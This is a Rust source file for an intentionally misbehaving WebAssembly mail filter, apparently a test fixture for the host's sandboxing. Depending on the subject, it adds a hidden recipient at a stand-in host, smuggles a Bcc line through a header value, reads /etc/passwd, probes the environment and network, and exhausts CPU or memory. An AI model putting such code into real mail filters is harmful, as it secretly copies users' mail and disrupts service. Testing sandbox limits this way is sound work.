//! A filter that misbehaves; the subject selects how.
//!
//! | subject | what it does |
//! |---|---|
//! | `reject` | rejects, with the code `on-request` |
//! | `edit` | a footer, a field `X-Seen` with the size of the text, another subject |
//! | `recipient` | adds a recipient |
//! | `inject` | a header field whose value contains a line break |
//! | `everything` | a hundred and one edits, one too many |
//! | `trap` | traps |
//! | `loop` | never returns |
//! | `eat` | allocates without end |
//! | `flood` | reads the headers without end |
//! | `hold` | opens the message's bytes without end and keeps every handle |
//! | `powers` | rejects, with what it found of environment, files and network in `detail` |
//! | `request` | rejects, with the bytes accepted of a request's body and the outcome of the request in `detail` |
//!
//! Anything else is accepted.
//!
//! Built for wasm32-wasip2 only.
#![cfg(target_family = "wasm")]
#![expect(clippy::panic, reason = "it misbehaves")]

use std::env;
use std::fs;
use std::net::{TcpStream, ToSocketAddrs};

mod bindings {
    //! Bindings that wit-bindgen generates from the world `before-send-filter` with the imports
    //! that other languages' tools add.
    wit_bindgen::generate!({
        inline: "package postlet:hostile-filter;
            world filter {
                include postlet:mail/before-send-filter@0.1.0;
                import wasi:http/outgoing-handler@0.2.10;
            }",
        path: "../../../wit",
        generate_all,
    });
}

use bindings::exports::postlet::mail::before_send::{Envelope, Guest, Verdict};
use bindings::postlet::mail::filtering::{Edit, Footer, Refusal};
use bindings::postlet::mail::reading::{Body, Message};
use bindings::postlet::mail::types::Header;
use bindings::wasi::http::outgoing_handler;
use bindings::wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

struct Component;

#[expect(unsafe_code, reason = "the component model's export shims are unsafe functions")]
const _: () = {
    bindings::export!(Component with_types_in bindings);
};

impl Guest for Component {
    fn judge(message: &Message, _envelope: Envelope) -> Verdict {
        let subject = message.summary().facts.subject.unwrap_or_default();
        match subject.as_str() {
            "reject" => reject("as you wished".to_owned()),
            "edit" => Verdict::Modify(vec![
                Edit::AddFooter(Footer { text: "-- below".to_owned(), html: None }),
                field("X-Seen", &text(message).len().to_string()),
                Edit::SetSubject("edited".to_owned()),
            ]),
            "recipient" => Verdict::Modify(vec![Edit::AddRecipient("spy@evil.test".to_owned())]),
            "inject" => Verdict::Modify(vec![field("X-A", "1\r\nBcc: spy@evil.test")]),
            "everything" => Verdict::Modify((0..101).map(|_| field("X-A", "1")).collect()),
            "trap" => panic!("on request"),
            "loop" => spin(),
            "eat" => eat(),
            "flood" => loop {
                let _ = message.headers();
            },
            "hold" => {
                let mut held = Vec::new();
                loop {
                    held.push(message.raw());
                }
            }
            "powers" => reject(powers()),
            "request" => reject(sent()),
            _ => Verdict::Accept,
        }
    }
}

fn reject(detail: String) -> Verdict {
    Verdict::Reject(Refusal { code: "on-request".to_owned(), detail })
}

fn field(name: &str, value: &str) -> Edit {
    Edit::AddHeader(Header { name: name.to_owned(), value: value.to_owned() })
}

fn text(message: &Message) -> String {
    message.body(Body::Text, 1_000_000).ok().flatten().unwrap_or_default()
}

fn spin() -> ! {
    let mut number = 0_u64;
    loop {
        number = std::hint::black_box(number.wrapping_add(1));
    }
}

fn eat() -> ! {
    let mut held = Vec::new();
    loop {
        held.push(std::hint::black_box(vec![1_u8; 1 << 20]));
    }
}

fn powers() -> String {
    let names: Vec<_> = env::vars().map(|(name, _)| name).collect();
    let files = fs::read_dir("/").is_ok() || fs::read("/etc/passwd").is_ok();
    let connected = TcpStream::connect("127.0.0.1:25").is_ok();
    let resolved = "localhost:25".to_socket_addrs().is_ok();
    format!("environment {names:?}, files {files}, network {}", connected || resolved)
}

/// Tries a request to a port of this machine: `PORT` of the environment.
fn sent() -> String {
    let port = env::var("PORT").unwrap_or_default();
    let authority = format!("127.0.0.1:{port}");
    let taken = unread(&request(&authority));
    let ended = match outgoing_handler::handle(request(&authority), None) {
        Err(code) => Err(code),
        Ok(answer) => {
            answer.subscribe().block();
            match answer.get() {
                Some(Ok(Ok(_))) => Ok(()),
                Some(Ok(Err(code))) => Err(code),
                Some(Err(())) | None => Ok(()),
            }
        }
    };
    format!("{taken} bytes, {ended:?}")
}

fn request(authority: &str) -> OutgoingRequest {
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_method(&Method::Post);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some("/"));
    request
}

/// The number of bytes that the host accepts of a body that is never read.
fn unread(request: &OutgoingRequest) -> usize {
    let Ok(body) = request.body() else { return 0 };
    let Ok(stream) = body.write() else { return 0 };
    let mut taken = 0;
    while let Ok(room @ 1..) = stream.check_write() {
        let some = vec![1; usize::try_from(room).unwrap_or(0)];
        if stream.write(&some).is_err() {
            break;
        }
        taken += some.len();
    }
    taken
}
